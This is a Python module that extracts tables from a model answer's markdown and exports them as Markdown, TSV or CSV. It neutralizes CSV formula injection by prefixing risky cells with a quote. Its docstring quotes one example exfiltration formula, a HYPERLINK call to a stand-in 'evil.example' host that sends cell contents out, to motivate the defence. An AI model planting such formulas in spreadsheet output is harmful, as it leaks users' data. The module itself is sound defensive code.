"""Getting a table out of an answer: its cells (from the answer's markdown, as markdown-it
parses it) as Markdown, TSV or CSV (a code block's file name: ``code_names.py``). Pure; the
page binds it (``pysse/app/takeout.py``) to the table's buttons.

* **Markdown** keeps each cell's own source (emphasis, code, links) and the columns'
  alignment; it parses back to the same table.
* **TSV** (for pasting into a spreadsheet) is each cell's text, a tab between cells and a
  line feed after each row; a tab or line break inside a cell becomes a space (TSV has no
  quoting a spreadsheet's paste reliably reads).
* **CSV** is RFC 4180: CRLF after each record, a field quoted when it holds a comma, a quote
  or a line break, quotes doubled; it starts with a byte order mark so spreadsheet apps read
  it as UTF-8 (Excel otherwise guesses the locale's code page).
* **Formula injection.** A table is model output, untrusted; a cell such as
  ``=HYPERLINK("https://evil.example/?"&A1)`` would be a live formula when the CSV is opened
  in a spreadsheet. A CSV field that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return, and is not a plain number, gets a leading ``'`` (OWASP's advice), which
  spreadsheets show as text; ``-5`` and ``+3.2`` stay numbers. TSV copies are the user's own
  paste and are left as written.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any

__all__ = [
    "Table",
    "csv_text",
    "markdown_table",
    "neutralize",
    "tables_of",
    "tsv_text",
]

BOM = "\ufeff"
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")
_DELIM = {"align-start": ":---", "align-end": "---:", "align-center": ":---:"}
_STYLE = {"text-align:left": ":---", "text-align:right": "---:", "text-align:center": ":---:"}


@dataclass(frozen=True)
class Table:
    """One table of an answer: each row's cells as Markdown source and as plain text (row 0
    is the header; every row as wide as the header, as markdown-it renders it), and each
    column's alignment delimiter (``---``, ``:---``, ``---:``, ``:---:``)."""

    source: tuple[tuple[str, ...], ...]
    text: tuple[tuple[str, ...], ...]
    align: tuple[str, ...]


def markdown_table(table: Table) -> str:
    """The table as a GitHub-flavoured Markdown table (cells as written)."""
    rows = [[_pipes(c) for c in row] for row in table.source]
    rows.insert(1, list(table.align))
    return "".join("| " + " | ".join(c or " " for c in row) + " |\n" for row in rows)


def _pipes(cell: str) -> str:
    # markdown-it drops the backslash of every ``\|`` in a cell (even after a backslash),
    # so one before each pipe is the exact inverse.
    return cell.replace("|", "\\|")


def tsv_text(rows: Sequence[Sequence[str]]) -> str:
    """Tab-separated rows, for a spreadsheet's paste."""
    return "".join("\t".join(_flat(c) for c in row) + "\n" for row in rows)


def _flat(cell: str) -> str:
    return re.sub(r"[\t\r\n]+", " ", cell)


def neutralize(cell: str) -> str:
    """``cell`` as a spreadsheet should read it from a CSV: text, never a formula."""
    if cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def csv_text(rows: Sequence[Sequence[str]], bom: bool = True) -> str:
    """RFC 4180 CSV (CRLF, minimal quoting), formulas neutralized, with a BOM by default."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    for row in rows:
        writer.writerow([neutralize(c) for c in row])
    return (BOM if bom else "") + out.getvalue()


# -- tables from an answer's markdown -------------------------------------------------------


@cache
def _markdown() -> Any:
    from .markdown import make_markdown

    return make_markdown()


def _plain(tokens: Sequence[Any]) -> str:
    """An inline token's children as the reader sees the text (code, math as written)."""
    parts: list[str] = []
    for t in tokens:
        if t.children:
            parts.append(_plain(t.children))
        elif t.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif t.nesting == 0:
            parts.append(t.content)
    return "".join(parts)


def tables_of(src: str, md: Any = None) -> list[Table]:
    """Every table of an answer, in the order they are shown (tables inside lists and
    quotes too)."""
    toks = (md or _markdown()).parse(src.replace("\r\n", "\n").replace("\r", "\n"), {})
    tables: list[Table] = []
    source: list[tuple[str, ...]] = []
    text: list[tuple[str, ...]] = []
    align: list[str] = []
    row_src: list[str] = []
    row_text: list[str] = []
    for i, tok in enumerate(toks):
        if tok.type == "table_open":
            source, text, align = [], [], []
        elif tok.type == "tr_open":
            row_src, row_text = [], []
        elif tok.type in ("th_open", "td_open"):
            inline = toks[i + 1]
            row_src.append(inline.content.strip())
            row_text.append(_plain(inline.children or []).strip())
            if tok.type == "th_open":
                style = str(tok.attrs.get("style", ""))
                align.append(_STYLE.get(style) or _DELIM.get(style, "---"))
        elif tok.type == "tr_close":
            source.append(tuple(row_src))
            text.append(tuple(row_text))
        elif tok.type == "table_close" and source:
            tables.append(Table(tuple(source), tuple(text), tuple(align)))
    return tables
